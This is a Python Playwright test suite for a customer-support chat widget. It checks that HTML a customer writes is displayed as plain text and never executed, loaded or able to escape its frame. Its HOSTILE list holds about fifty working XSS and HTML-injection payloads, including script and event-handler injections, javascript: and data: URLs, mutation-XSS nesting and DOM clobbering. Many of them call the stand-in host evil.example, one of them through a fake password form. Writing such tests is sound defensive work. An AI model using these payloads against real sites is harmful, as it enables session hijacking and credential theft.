"""What a customer writes stays text: nothing of it runs, nothing is loaded for it, nothing gets out of its place."""

import unittest

from case import Case, mark, message, requests
from playwright.sync_api import Page, expect
from scene import DANA

#: Each sets a global, or loads something from `evil.example`, where it works.
HOSTILE = [
    "<script>window.owned=1</script>",
    "<script src=https://evil.example/a.js></script>",
    "<ScRiPt >window.owned=1</sCrIpT >",
    "</textarea></div></li><script>window.owned=1</script>",
    "<img src=x onerror=window.owned=1>",
    "<img src=https://evil.example/pixel.gif width=1 height=1>",
    "<img srcset='https://evil.example/a.png 1x' alt=photo>",
    "<picture><source srcset=https://evil.example/s.png><img alt=photo></picture>",
    "<svg onload=window.owned=1>",
    "<svg><script>window.owned=1</script></svg>",
    "<svg><image href=https://evil.example/i.png /></svg>",
    "<svg><a xlink:href=javascript:window.owned=1><text y=20>Click</text></a></svg>",
    "<svg><style><img src=x onerror=window.owned=1></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.owned=1></style></mglyph></table></mtext>"
    "</math>",
    "<math href=javascript:window.owned=1>Click</math>",
    "<iframe src=javascript:parent.owned=1></iframe>",
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=https://evil.example/o></object><embed src=https://evil.example/e>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<link rel=preload as=image href=https://evil.example/p.png>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<style>@import 'https://evil.example/b.css'; body { display: none }</style>",
    "<p style='background:url(https://evil.example/c.png);position:fixed;inset:0;z-index:9999'>Over all</p>",
    "<base href=https://evil.example/><a href=x>Relative</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><input name=password autofocus onfocus=window.owned=1>"
    "<button>Log in</button>",
    "<form id=childNodes><input name=localName><input name=attributes></form><img src=x onerror=window.owned=1>",
    "<a href=javascript:window.owned=1>Click</a>",
    "<a href='java&#x0a;script:window.owned=1'>Click</a>",
    "<a href=' &#14; javascript:window.owned=1'>Click</a>",
    "<a href='data:text/html,<script>window.owned=1</script>'>Click</a>",
    "<a href=vbscript:window.owned=1>Click</a>",
    "<a href=https://evil.example/ target=_top onclick=window.owned=1 ping=https://evil.example/p>"
    "https://shop.example.com</a>",
    "<details open ontoggle=window.owned=1><summary>More</summary></details>",
    "<video autoplay poster=https://evil.example/v.png>"
    "<source src=https://evil.example/v.mp4 onerror=window.owned=1></video>",
    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
    "<body onload=window.owned=1 background=https://evil.example/bg.png>Body</body>",
    "<table background=https://evil.example/t.png><td background=https://evil.example/d.png>Cell</table>",
    "<marquee onstart=window.owned=1>Moves</marquee>",
    "<input type=image src=https://evil.example/in.png onerror=window.owned=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.owned=1>'></noscript>",
    "<template><img src=x onerror=window.owned=1></template>",
    "<template shadowrootmode=open><img src=x onerror=window.owned=1></template>",
    "<xmp><p title='</xmp><img src=x onerror=window.owned=1>'></xmp>",
    "<!--><img src=x onerror=window.owned=1>-->",
    "<![CDATA[<img src=x onerror=window.owned=1>]]>",
    "<custom-element onclick=window.owned=1 is=x id=thread data-test=send-answer class=notice>Custom</custom-element>",
    "<div id=app class=undo data-test=view contenteditable tabindex=1 accesskey=s>Named like ours</div>",
    "\u202egnp.exe\u202c {{settings}} {{assets}} ${window.owned=1} `${alert(1)}`",
    "'\"><img src=x onerror=window.owned=1>",
    "{{constructor.constructor('window.owned=1')()}}",
]

#: What a message may consist of, and what may stand at it.
INVENTORY = """
    (roots) => {
      const found = new Set();
      for (const root of roots) {
        for (const node of root.querySelectorAll('*')) {
          for (const { name } of node.attributes) found.add(`${node.localName} ${name}`);
          found.add(node.localName);
        }
      }
      return [...found];
    }"""
ELEMENTS = set(
    "a b bdi blockquote br code details div em hr i li ol p pre s span strong summary u ul".split())
ATTRIBUTES = {
    "a href", "a target", "a rel", "div class", "div dir", "details class", "p class", "span class", "bdi dir",
    "summary class"}


class Hostile(Case):
    def look(self, conversation: str, count: int = 1) -> Page:
        """The thread with so many messages, read from its first on."""
        visit = self.agent()
        asked = requests(visit.context)
        visit.page.on("dialog", lambda it: self.fail(f"a dialog says {it.message}"))
        visit.page.goto(self.scene.widget(conversation))
        expect(mark(visit.page, "view")).to_be_visible()
        if count > 50:
            mark(visit.page, "older").click()
        expect(mark(visit.page, "body")).to_have_count(count)
        self.expect_calm(visit.page, asked)
        return visit.page

    def thread(self, body_type: str) -> Page:
        """All of them in one thread."""
        thread = self.scene.post("First", message={"body_type": body_type})
        for text in HOSTILE[:-1]:
            self.scene.write(text, thread, message={"body_type": body_type})
        self.scene.post(HOSTILE[-1], thread, message={"body_type": body_type})
        return self.look(self.scene.give(thread), len(HOSTILE) + 1)

    def inventory(self, page: Page) -> tuple[set[str], set[str]]:
        """The elements that messages consist of, and the attributes."""
        found = mark(page, "body").evaluate_all(INVENTORY)
        return {one for one in found if " " not in one}, {one for one in found if " " in one}

    def expect_calm(self, page: Page, asked: list[str]) -> None:
        self.assertIsNone(page.evaluate("window.owned ?? null"))
        self.assertEqual(len(page.frames), 1)
        foreign = [one for one in asked if not one.startswith((self.scene.origin, self.scene.desk_origin, "data:"))]
        self.assertEqual(foreign, [])

    def test_there_are_at_least_forty_of_them(self) -> None:
        self.assertGreaterEqual(len(set(HOSTILE)), 40)

    def test_hostile_html_is_rebuilt_from_a_few_elements(self) -> None:
        tab = self.thread("html")
        elements, attributes = self.inventory(tab)
        self.assertLessEqual(elements, ELEMENTS)
        self.assertLessEqual(attributes, ATTRIBUTES)
        links = mark(tab, "body").locator("a").evaluate_all("all => all.map((it) => [it.href, it.rel])")
        self.assertEqual(links, [["https://evil.example/", "noopener noreferrer nofollow"]])
        # Where the text of a link names another place than it leads to, that is said.
        expect(message(tab, "https://shop.example.com")).to_contain_text("(evil.example)")

    def test_hostile_text_is_shown_as_it_was_written(self) -> None:
        tab = self.thread("text")
        elements, attributes = self.inventory(tab)
        self.assertLessEqual(elements, {"div", "a", "span"})
        self.assertLessEqual(attributes, ATTRIBUTES)
        said = mark(tab, "body").all_inner_texts()
        for text in HOSTILE:
            if "\u202e" not in text:
                self.assertTrue(any(text in one.replace(" (evil.example)", "") for one in said), text)
        self.assertTrue(any("⟨U+202E⟩gnp.exe" in one for one in said))

    def test_names_subjects_orders_files_and_attributes_are_text_too(self) -> None:
        evil = "</span><img src=https://evil.example/x.png onerror=window.owned=1>"
        thread = self.scene.post(
            "See above", message={"subject": evil, "attachments": [
                {"name": evil, "content_type": evil, "url": "https://shop.example.com/a"}, {"name": evil}]},
            customer={"name": evil, "company": evil, "phone": evil[:64], "locale": "<b>x</b>"},
            order={"number": evil, "id": evil, "status": evil[:64], "fulfillment_status": evil[:64], "currency": "<b>",
                   "items": [{"sku": evil, "name": evil, "quantity": 1, "price": "1.00"}]},
            attributes={"channel": evil, "<img src=x onerror=window.owned=1>": evil})
        conversation = self.scene.give(thread)
        tab = self.look(conversation)
        for place in ("customer", "order", "attachment", "cards-summary"):
            expect(mark(tab, place).first).to_contain_text("<img src=https://evil.example/x.png")
        self.assertEqual(tab.locator("img").count(), 0)
        app = self.open(None, DANA)
        mark(app, "tab-open").click()
        expect(app.locator(f'[data-key$="/{thread}"]')).to_contain_text("<img src=https://evil.example/x.png")
        self.assertEqual((app.locator("img").count(), app.evaluate("window.owned")), (0, None))

    def test_a_link_of_a_customer_opens_without_knowing_where_from(self) -> None:
        _, conversation = self.taken("Look at https://evil.example/page, please.")
        tab = self.open(conversation)
        tab.context.route("https://evil.example/**", lambda route: route.fulfill(body="<title>Evil</title>"))
        with tab.expect_popup() as popup:
            mark(tab, "body").locator("a").click()
        popup.value.wait_for_load_state()
        self.assertEqual(popup.value.evaluate("[document.referrer, window.opener]"), ["", None])

    def test_a_link_of_a_customer_is_opened_by_the_desk_outside_of_the_frames_sandbox(self) -> None:
        _, conversation = self.taken("Look at https://evil.example/page, please.")
        desk = self.agent()
        # Which Genesys may not let windows out of.
        desk.page.evaluate(
            """() => {
              const set = Element.prototype.setAttribute;
              Element.prototype.setAttribute = function (name, value) {
                return set.call(this, name, value.replace('allow-popups-to-escape-sandbox', ''));
              };
            }""")
        desk.context.route("https://evil.example/**", lambda route: route.fulfill(
            body="<title>Evil</title>", headers={"cross-origin-opener-policy": "same-origin"}))
        desk.page.locator(f'.interaction[data-conversation="{conversation}"] .open').click()
        tab = desk.page.frame_locator(f'iframe[data-app="{conversation}"]')
        with desk.context.expect_page() as opened:
            mark(tab, "body").locator("a").click()
        expect(opened.value).to_have_title("Evil")
        self.assertEqual(opened.value.evaluate("[location.origin, window.opener]"), ["https://evil.example", None])


if __name__ == "__main__":
    unittest.main()
